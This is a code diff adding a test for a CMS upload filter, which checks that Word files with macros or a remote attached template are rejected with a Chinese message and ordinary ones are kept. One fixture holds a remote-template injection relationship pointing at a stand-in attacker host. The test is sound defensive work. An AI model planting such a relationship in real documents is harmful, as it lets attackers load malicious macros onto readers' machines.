@@ -7,6 +7,7 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import { UPLOAD_MESSAGES } from '@/platform/media/cleanUploadContent'
 import type { User } from '@/payload-types'
 import { minimalPdf } from '../fixtures/minimal-pdf'
+import { docxFile } from '../fixtures/zip-file'
 
 let payload: Payload
 let editor: User
@@ -52,5 +53,20 @@ describe('staff uploads', () => {
     const plain = minimalPdf()
     const kept = await payload.create({ collection: 'policy-documents', data: { title: '普通文件' }, file: { data: plain, mimetype: 'application/pdf', name: 'ok.pdf', size: plain.length }, user: editor, overrideAccess: false })
     expect(kept.id).toBeTruthy()
+  })
+
+  it('refuse a Word file with macros or a remote template, in Chinese, and keep an ordinary one', async () => {
+    const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
+    const upload = (data: Buffer, name: string) =>
+      payload.create({ collection: 'policy-documents', data: { title: '附件' }, file: { data, mimetype: DOCX, name, size: data.length }, user: editor, overrideAccess: false })
+    const before = (await payload.count({ collection: 'policy-documents', overrideAccess: true })).totalDocs
+    await expect(upload(docxFile({ extra: { 'word/vbaProject.bin': Buffer.from('Attribute VB_Name') } }), 'macro.docx')).rejects.toThrow(UPLOAD_MESSAGES.unsafeOffice(['macros']))
+    const remoteTemplate = docxFile({
+      documentRels: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    })
+    await expect(upload(remoteTemplate, 'template.docx')).rejects.toThrow(UPLOAD_MESSAGES.unsafeOffice(['external-link']))
+    expect((await payload.count({ collection: 'policy-documents', overrideAccess: true })).totalDocs).toBe(before)
+    const kept = await upload(docxFile(), 'notice.docx')
+    expect(kept.filename).toMatch(/\.docx$/)
   })
 })
